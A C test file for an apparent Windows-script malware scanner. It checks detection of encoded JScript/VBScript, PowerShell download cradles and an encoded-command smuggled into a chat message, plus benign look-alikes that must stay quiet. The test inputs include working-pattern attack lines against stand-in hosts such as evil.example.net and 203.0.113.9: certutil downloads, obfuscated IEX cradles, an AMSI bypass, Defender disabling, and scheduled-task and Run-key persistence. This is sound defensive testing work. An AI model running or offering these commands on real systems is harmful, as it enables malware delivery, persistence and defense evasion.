/*
 * test_script.c - Windows scripts: Script Encoder blocks (encoded here with
 * our own encoder, plus a known-answer block), PowerShell cradles plain,
 * concatenated, backticked, -EncodedCommand, FromBase64String (UTF-16 and
 * raw Deflate), batch files with certutil and carets, HTA, AMSI and
 * Defender tampering, persistence; and benign look-alikes (logon scripts
 * mapping drives, an admin clean-up script, mail text that mentions
 * PowerShell, ordinary web page JavaScript) that must stay quiet.
 */
#include <stdbool.h>
#include <zlib.h>

#include "testutil.h"

/* ---- our own Script Encoder (the inverse of the published decoder) ---- */

static const char dec_tab[3][97] = {
        ".GzVBj/&IA42[vrC89pEhqO\tbD#u<~>^@wJa]\"KoN;LPg*}tT+-,0nkf5%!dMRc?{x)(sY3\x7fmUS|:_"
        "eFX1ilZH'\\=$y7`Q 6",
        "-uR`q^I\\b})6 |z\x7fkc3+hQfv1dTC<:>~@E,*t'7DyY/o&rj9{?8wgSG4x]0#Z[lHUpi.L!$NP\tVs5aK"
        "X;W\"mM%(FJ2A=_OBe",
        "20!)[83=X:5e9\\VsfNEkbYx^}Jmq<`>S@B'Hru17MR\"TjGd- \x7f.L]~loytC&v%$+(#A4\t*D?w;UiacP"
        "gQIOFh|6pnz/_KZ,W",
};
static const char dec_tab9[3] = {'W', 'n', '{'};
static const char order[] = "0120121221210212021200122102122100212120200120210212001220012021";

static uint8_t enc_char(uint8_t plain, int k)
{
	if (dec_tab9[k] == (char)plain)
		return 9;
	for (int c = 32; c < 128; c++)
		if (c != '<' && c != '>' && c != '@' && (uint8_t)dec_tab[k][c - 32] == plain)
			return (uint8_t)c;
	fail_msg("cannot encode 0x%02x", plain);
	return 0;
}

static char *screnc(const char *plain)
{
	GString *body = g_string_new(NULL);
	size_t idx = 0;
	uint32_t sum = 0;
	uint8_t len[4];
	char *b64len, *b64sum, *r;

	for (const char *p = plain; *p; p++, idx++) {
		uint8_t c = (uint8_t)*p;

		sum += c;
		switch (c) {
		case '\n':
			g_string_append(body, "@&");
			continue;
		case '\r':
			g_string_append(body, "@#");
			continue;
		case '<':
			g_string_append(body, "@!");
			continue;
		case '>':
			g_string_append(body, "@*");
			continue;
		case '@':
			g_string_append(body, "@$");
			continue;
		default:
			break;
		}
		g_string_append_c(body, (char)enc_char(c, order[idx % 64] - '0'));
	}
	for (int i = 0; i < 4; i++)
		len[i] = (uint8_t)(body->len >> (8 * i));
	b64len = g_base64_encode(len, 4);
	for (int i = 0; i < 4; i++)
		len[i] = (uint8_t)(sum >> (8 * i));
	b64sum = g_base64_encode(len, 4);
	r = g_strdup_printf("#@~^%s%s%s^#~@", b64len, body->str, b64sum);
	g_free(b64len);
	g_free(b64sum);
	g_string_free(body, TRUE);
	return r;
}

/* ---- helpers ---- */

/* VIGIL_SEED_DIR=tests/fuzz/seeds: write this input as a fuzz seed */
static void seed_out(const char *name, const void *p, size_t n)
{
	const char *dir = getenv("VIGIL_SEED_DIR");
	char *path;

	if (dir == NULL)
		return;
	path = g_build_filename(dir, name, NULL);
	assert_true(g_file_set_contents(path, p, (gssize)n, NULL));
	g_free(path);
}

static vigil_engine *eng(void)
{
	return tu_engine(NULL, NULL);
}

static vigil_scan *scan_named(vigil_engine *e, const char *text, const char *name)
{
	return tu_scan(e, text, strlen(text), name);
}

static long expect(const vigil_scan *s, const char *id, const char *path, const char *attack)
{
	size_t n = vigil_scan_finding_count(s);

	for (size_t i = 0; i < n; i++) {
		const vigil_finding *f = vigil_scan_finding(s, i);

		if (strcmp(vigil_finding_id(f), id) != 0 ||
		    strcmp(tu_finding_path(s, (long)i), path) != 0)
			continue;
		if (attack != NULL) {
			gchar **want = g_strsplit(attack, ",", 0);

			for (gchar **w = want; *w; w++)
				if (strstr(vigil_finding_attack(f), *w) == NULL)
					fail_msg("%s on %s: ATT&CK %s lacks %s", id, path,
					         vigil_finding_attack(f), *w);
			g_strfreev(want);
		}
		return (long)i;
	}
	tu_dump(s);
	fail_msg("missing %s on %s", id, path);
	return -1;
}

static const char *evidence(const vigil_scan *s, long i)
{
	return vigil_finding_evidence(vigil_scan_finding(s, (size_t)i));
}

static void expect_quiet(const vigil_scan *s)
{
	for (size_t i = 0; i < vigil_scan_finding_count(s); i++) {
		const char *id = vigil_finding_id(vigil_scan_finding(s, i));

		if (strncmp(id, "script.", 7) == 0) {
			tu_dump(s);
			fail_msg("benign script got %s", id);
		}
	}
}

static const char *child_text(const vigil_scan *s, const char *suffix)
{
	const vigil_object *o = tu_object(s, suffix);
	size_t len;
	const uint8_t *p;

	if (o == NULL) {
		tu_dump(s);
		fail_msg("no object %s", suffix);
	}
	p = vigil_object_data(o, &len);
	assert_non_null(p);
	return (const char *)p;
}

/* ---- tests ---- */

static void test_jse_encoded(void **state)
{
	vigil_engine *e = eng();
	const char *plain = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
	                    "if (1 < 2 && 3 > 2) { var m = \"a@b\"; }\r\n"
	                    "sh.Run(\"powershell -nop -w hidden -c IEX ((New-Object Net.WebClient)."
	                    "DownloadString('http://evil.example.net/s'))\", 0);\r\n";
	char *enc = screnc(plain);
	char *file = g_strdup_printf("// invoice\r\n%s\r\n", enc);
	vigil_scan *s = scan_named(e, file, "invoice.jse");
	const char *txt;

	(void)state;
	seed_out("script-encoded.jse", file, strlen(file));
	expect(s, "script.encoded_script", "invoice.jse", "T1027,T1059.007");
	txt = child_text(s, "invoice.jse/decoded.js");
	assert_memory_equal(txt, plain, strlen(plain));
	expect(s, "script.exec", "invoice.jse/decoded.js", "T1059.007");
	expect(s, "script.downloader", "invoice.jse/decoded.js", "T1105");
	vigil_scan_free(s);
	g_free(file);
	g_free(enc);
	vigil_engine_unref(e);
}

/* a block from outside this project: "MsgBox \"" */
static void test_vbe_known_answer(void **state)
{
	vigil_engine *e = eng();
	vigil_scan *s = scan_named(e, "#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@", "old.vbe");

	(void)state;
	expect(s, "script.encoded_script", "old.vbe", "T1059.005");
	assert_memory_equal(child_text(s, "old.vbe/decoded.vbs"), "MsgBox \"", 8);
	vigil_scan_free(s);
	vigil_engine_unref(e);
}

static void test_vbe_downloader(void **state)
{
	vigil_engine *e = eng();
	const char *plain = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
	                    "o.Open \"GET\", \"http://evil.example.net/p.exe\", False\r\n"
	                    "o.Send\r\n"
	                    "Set s = CreateObject(\"ADODB.Stream\")\r\n"
	                    "s.Type = 1 : s.Open : s.Write o.ResponseBody\r\n"
	                    "s.SaveToFile \"C:\\Users\\Public\\p.exe\", 2\r\n";
	char *enc = screnc(plain);
	char *page = g_strdup_printf("<html><script language=\"VBScript.Encode\">%s</script>"
	                             "</html>",
	                             enc);
	vigil_scan *s = scan_named(e, page, "thongbao.hta");

	(void)state;
	expect(s, "script.encoded_script", "thongbao.hta", "T1059.005");
	assert_memory_equal(child_text(s, "thongbao.hta/decoded.vbs"), plain, strlen(plain));
	expect(s, "script.downloader", "thongbao.hta/decoded.vbs", "T1105,T1059.005");
	vigil_scan_free(s);
	g_free(page);
	g_free(enc);
	vigil_engine_unref(e);
}

static char *utf16_b64(const char *text)
{
	GByteArray *w = g_byte_array_new();
	char *r;

	for (const char *p = text; *p; p++) {
		uint8_t b[2] = {(uint8_t)*p, 0};

		g_byte_array_append(w, b, 2);
	}
	r = g_base64_encode(w->data, w->len);
	g_byte_array_free(w, TRUE);
	return r;
}

static char *deflate_b64(const char *text)
{
	z_stream z;
	uint8_t out[4096];
	char *r;

	memset(&z, 0, sizeof z);
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (Bytef *)text;
	z.avail_in = (uInt)strlen(text);
	z.next_out = out;
	z.avail_out = sizeof out;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	r = g_base64_encode(out, sizeof out - z.avail_out);
	deflateEnd(&z);
	return r;
}

static void test_powershell_cradles(void **state)
{
	vigil_engine *e = eng();
	vigil_scan *s;
	long i;

	(void)state;
	s = scan_named(e, "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n",
	               "a.ps1");
	expect(s, "script.downloader", "a.ps1", "T1105,T1059.001");
	expect(s, "script.exec", "a.ps1", "T1059.001");
	vigil_scan_free(s);

	/* pieces glued back together, backticks dropped */
	s = scan_named(e,
	               "$a = \"Down\" + \"load\" + 'Str' + \"ing\"\n"
	               "$w = New-Object (\"Net.\" + \"Web\" + \"Client\")\n"
	               "$w.$a(\"http://x.example/b\") | I`E`X\n",
	               "b.ps1");
	i = expect(s, "script.downloader", "b.ps1", "T1105");
	assert_non_null(strstr(evidence(s, i), "Net.WebClient"));
	expect(s, "script.exec", "b.ps1", NULL);
	vigil_scan_free(s);

	/* AMSI and Defender */
	s = scan_named(e,
	               "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')."
	               "GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)\n"
	               "Set-MpPreference -DisableRealtimeMonitoring $true\n"
	               "Add-MpPreference -ExclusionPath C:\\Users\n",
	               "c.ps1");
	expect(s, "script.amsi_bypass", "c.ps1", "T1562.001");
	expect(s, "script.disable_defense", "c.ps1", "T1562.001");
	vigil_scan_free(s);

	/* FromBase64String (UTF-16) run by IEX; a Deflate blob inflated */
	{
		char *b1 = utf16_b64("Invoke-WebRequest http://x.example/c.exe -OutFile c.exe");
		char *b2 = deflate_b64("Start-BitsTransfer -Source http://x.example/y.exe "
		                       "-Destination $env:TEMP\\y.exe");
		char *text = g_strdup_printf(
		        "IEX "
		        "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))\n"
		        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
		        "[IO.MemoryStream][Convert]::FromBase64String('%s'),"
		        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n",
		        b1, b2);

		s = scan_named(e, text, "d.ps1");
		expect(s, "script.encoded_command", "d.ps1", "T1140");
		assert_non_null(strstr(child_text(s, "d.ps1/base64_1.ps1"), "Invoke-WebRequest"));
		expect(s, "script.downloader", "d.ps1/base64_1.ps1", "T1105");
		assert_non_null(strstr(child_text(s, "d.ps1/base64_2.ps1"), "Start-BitsTransfer"));
		expect(s, "script.downloader", "d.ps1/base64_2.ps1", "T1197");
		vigil_scan_free(s);
		g_free(text);
		g_free(b1);
		g_free(b2);
	}
	vigil_engine_unref(e);
}

static void test_batch(void **state)
{
	vigil_engine *e = eng();
	vigil_scan *s;
	char *b64 = utf16_b64("(New-Object Net.WebClient).DownloadFile('http://x.example/u.exe',"
	                      "\"$env:TEMP\\u.exe\"); Start-Process \"$env:TEMP\\u.exe\"");
	char *bat = g_strdup_printf(
	        "@echo off\r\n"
	        "certutil -urlcache -split -f http://203.0.113.9/a.txt %%TEMP%%\\a.txt\r\n"
	        "certutil -decode %%TEMP%%\\a.txt %%TEMP%%\\a.exe\r\n"
	        "schtasks /create /tn Updater /tr %%TEMP%%\\a.exe /sc onlogon\r\n"
	        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "
	        "%%TEMP%%\\a.exe /f\r\n"
	        "start /min powershell -nop -w hidden -EncodedCommand %s\r\n",
	        b64);
	long i;

	(void)state;
	seed_out("script-setup.bat", bat, strlen(bat));
	s = scan_named(e, bat, "setup.bat");
	expect(s, "script.downloader", "setup.bat", "T1105,T1059.003");
	expect(s, "script.lolbin", "setup.bat", "T1105");
	i = expect(s, "script.persistence", "setup.bat", NULL);
	(void)i;
	i = expect(s, "script.encoded_command", "setup.bat", "T1059.001");
	assert_non_null(strstr(evidence(s, i), "DownloadFile"));
	expect(s, "script.downloader", "setup.bat/encoded_command.ps1", "T1059.001");
	expect(s, "script.exec", "setup.bat/encoded_command.ps1", NULL);
	vigil_scan_free(s);

	/* carets everywhere: obfuscated, and still read through */
	s = scan_named(e,
	               "@echo off\r\n"
	               "c^m^d /c p^o^w^e^r^s^h^e^l^l -c \"(New-Object Net.We^bCl^ient)."
	               "Down^loadF^ile('http://x.example/v.exe','v.exe')\"\r\n",
	               "run.cmd");
	i = expect(s, "script.obfuscated", "run.cmd", "T1027");
	assert_non_null(strstr(evidence(s, i), "carets inside words"));
	expect(s, "script.downloader", "run.cmd", "T1059.003");
	vigil_scan_free(s);
	g_free(bat);
	g_free(b64);
	vigil_engine_unref(e);
}

static char *chr_chain(const char *s)
{
	GString *g = g_string_new(NULL);

	for (const char *p = s; *p; p++)
		g_string_append_printf(g, "%sChr(%d)", p == s ? "" : " & ", *p);
	return g_string_free(g, FALSE);
}

static void test_charcodes(void **state)
{
	vigil_engine *e = eng();
	char *a = chr_chain("WScript.Shell");
	char *b = chr_chain("mshta http://evil.example.org/p.hta");
	char *vbs = g_strdup_printf("Set o = CreateObject(%s)\r\no.Run %s, 0\r\n", a, b);
	vigil_scan *s;
	long i;

	(void)state;
	s = scan_named(e, vbs, "hoadon.vbs");
	i = expect(s, "script.obfuscated", "hoadon.vbs", "T1027");
	assert_non_null(strstr(evidence(s, i), "characters built from character codes"));
	i = expect(s, "script.exec", "hoadon.vbs", "T1059.005");
	assert_non_null(strstr(evidence(s, i), "WScript.Shell"));
	expect(s, "script.lolbin", "hoadon.vbs", "T1218.005");
	vigil_scan_free(s);

	/* JScript: String.fromCharCode */
	{
		const char *js = "var x = new ActiveXObject(String.fromCharCode(87,83,99,114,105,"
		                 "112,116,46,83,104,101,108,108)); x.Run('calc');";

		s = scan_named(e, js, "x.js");
		i = expect(s, "script.exec", "x.js", "T1059.007");
		assert_non_null(strstr(evidence(s, i), "\"WScript.Shell\""));
		vigil_scan_free(s);
	}
	g_free(a);
	g_free(b);
	g_free(vbs);
	vigil_engine_unref(e);
}

static void test_hta_and_unnamed(void **state)
{
	vigil_engine *e = eng();
	const char *hta =
	        "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\">"
	        "<script language=\"VBScript\">\r\n"
	        "Set s = CreateObject(\"WScript.Shell\")\r\n"
	        "s.Run \"regsvr32 /s /n /u /i:http://evil.example.org/f.sct scrobj.dll\", 0\r\n"
	        "self.close\r\n</script></head></html>";
	vigil_scan *s;
	char *b64, *body;

	(void)state;
	s = scan_named(e, hta, "thongbao.hta");
	expect(s, "script.exec", "thongbao.hta", "T1059.005");
	expect(s, "script.lolbin", "thongbao.hta", "T1218.010");
	vigil_scan_free(s);
	/* the same page without a name: its markers make it a script */
	s = tu_scan(e, hta, strlen(hta), NULL);
	expect(s, "script.lolbin", "input", "T1218.010");
	vigil_scan_free(s);

	/* an encoded PowerShell command line in plain text is decoded anyway */
	b64 = utf16_b64("iwr http://x.example/z.ps1 | iex");
	body = g_strdup_printf("Chao anh,\r\nChay lenh sau: powershell.exe -w hidden -e %s\r\n",
	                       b64);
	s = tu_scan(e, body, strlen(body), NULL);
	expect(s, "script.encoded_command", "input", "T1059.001");
	expect(s, "script.downloader", "input/encoded_command.ps1", "T1105");
	vigil_scan_free(s);
	g_free(body);
	g_free(b64);
	vigil_engine_unref(e);
}

static void test_benign_quiet(void **state)
{
	vigil_engine *e = eng();
	static const struct {
		const char *name, *text;
	} cases[] = {
	        {"logon.bat", "@echo off\r\n"
	                      "rem Map the department drives\r\n"
	                      "net use H: \\\\fileserver\\home\\%USERNAME% /persistent:no\r\n"
	                      "net use S: \\\\fileserver\\shared /persistent:no\r\n"
	                      "if exist \\\\fileserver\\netlogon\\printers.vbs cscript //nologo "
	                      "\\\\fileserver\\netlogon\\printers.vbs\r\n"
	                      "echo Drives mapped for %USERNAME%.\r\n"},
	        {"logon.vbs",
	         "On Error Resume Next\r\n"
	         "Set objNetwork = CreateObject(\"WScript.Network\")\r\n"
	         "objNetwork.MapNetworkDrive \"H:\", \"\\\\fileserver\\home\\\" & "
	         "objNetwork.UserName\r\n"
	         "objNetwork.AddWindowsPrinterConnection \"\\\\printsrv\\HP-Tang3\"\r\n"
	         "WScript.Echo \"Xin chao \" & objNetwork.UserName\r\n"},
	        {"cleanup.ps1",
	         "param([int]$Days = 30)\n"
	         "Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt "
	         "(Get-Date).AddDays(-$Days) } | Remove-Item -WhatIf\n"
	         "Write-Host \"Cleaned logs older than $Days days\"\n"},
	        {NULL,
	         "Hi all,\n\nThe new PowerShell module for the reporting system is on the "
	         "share. Please run Invoke-Expression only on scripts you trust, and read the "
	         "wiki first.\n\nThanks,\nIT\n"},
	        {NULL,
	         "<html><body><script type=\"text/javascript\">\n"
	         "var s = \"<a href='\" + url + \"'>\" + title + \"</a>\" + \"<br>\" + \"x\" + "
	         "\"y\" + \"z\";\n"
	         "document.getElementById('menu').innerHTML = s;\n"
	         "</script><p>Ban tin noi bo thang 9</p></body></html>"},
	};

	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		vigil_scan *s = tu_scan(e, cases[i].text, strlen(cases[i].text), cases[i].name);

		expect_quiet(s);
		vigil_scan_free(s);
	}
	vigil_engine_unref(e);
}

/* damaged encoded blocks and encoded commands: bounded, no crash */
static void test_damaged(void **state)
{
	vigil_engine *e = eng();
	char *enc = screnc("WScript.Echo \"hello\"\r\n");
	size_t n = strlen(enc);

	(void)state;
	for (size_t k = 0; k <= n; k++) {
		char *cut = g_strndup(enc, k);
		vigil_scan *s = scan_named(e, cut, "x.vbe");

		vigil_scan_free(s);
		g_free(cut);
	}
	{
		static const char *const odd[] = {
		        "#@~^",
		        "#@~^!!!!!!==",
		        "#@~^//////==abc^#~@",
		        "#@~^AAAAAA==^#~@",
		        "powershell -e ====",
		        "powershell -enc AAAAAAAAAAAAAAAAAAAAAAAA",
		        "FromBase64String('////////////////////////////////////////////')",
		        "Chr(&H) Chr(99999999999) [char]( String.fromCharCode(,,) \"a\" + ",
		};

		for (size_t i = 0; i < G_N_ELEMENTS(odd); i++) {
			vigil_scan *s = scan_named(e, odd[i], "odd.ps1");

			vigil_scan_free(s);
		}
	}
	g_free(enc);
	vigil_engine_unref(e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_jse_encoded),     cmocka_unit_test(test_vbe_known_answer),
	        cmocka_unit_test(test_vbe_downloader),  cmocka_unit_test(test_powershell_cradles),
	        cmocka_unit_test(test_batch),           cmocka_unit_test(test_charcodes),
	        cmocka_unit_test(test_hta_and_unnamed), cmocka_unit_test(test_benign_quiet),
	        cmocka_unit_test(test_damaged),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
